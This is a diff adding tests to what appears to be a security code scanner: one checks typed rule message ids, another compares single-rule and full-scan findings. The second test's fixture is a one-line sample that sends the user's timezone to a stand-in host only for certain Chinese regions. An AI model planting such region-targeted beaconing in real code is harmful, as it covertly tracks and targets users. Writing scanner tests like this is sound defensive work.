@@ -5,7 +5,8 @@ import * as path from 'path';
 import { Analysis } from '../../src/engine/analysis';
 import { VISITED_TYPES } from '../../src/engine/ast';
 import { parse } from '../../src/engine/parse';
-import type { RuleContext } from '../../src/engine/rule';
+import { createRule, type RuleContext } from '../../src/engine/rule';
+import { scanText } from '../../src/engine/scan';
 import { rules } from '../../src/engine/rules';
 
 const root = path.join(__dirname, '..', '..');
@@ -41,6 +42,33 @@ describe('rule registry', () => {
       assert.ok(rule.meta.description.length > 20);
       assert.match(rule.meta.category, /^CWE-\d+/);
       assert.ok(Object.keys(rule.meta.messages).length > 0);
+    }
+  });
+});
+
+describe('createRule: typed message ids', () => {
+  it('a rule reports only the message ids its meta declares (checked by the compiler)', () => {
+    const rule = createRule({
+      meta: { id: 'example', description: 'An example.', severity: 'low', category: 'none', messages: { found: 'Found {{what}}.' } },
+      create(context) {
+        return {
+          Literal(node) {
+            context.report({ node, messageId: 'found', data: { what: 'a literal' } });
+            // @ts-expect-error: 'fonud' is not one of the rule's messages
+            context.report({ node, messageId: 'fonud' });
+          },
+        };
+      },
+    });
+    assert.deepStrictEqual(Object.keys(rule.meta.messages), ['found']);
+  });
+
+  it('one rule can run alone, with the same findings as among all rules', () => {
+    const code = 'const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;\nif (["Asia/Shanghai", "Asia/Urumqi"].includes(tz)) fetch("https://x.example", { method: "POST", body: JSON.stringify({ tz }) });\n';
+    const all = scanText(code, { file: 'a.js' }).findings;
+    for (const id of rules.keys()) {
+      const alone = scanText(code, { file: 'a.js', rules: [id] }).findings;
+      assert.deepStrictEqual(alone, all.filter((f) => f.ruleId === id), id);
     }
   });
 });
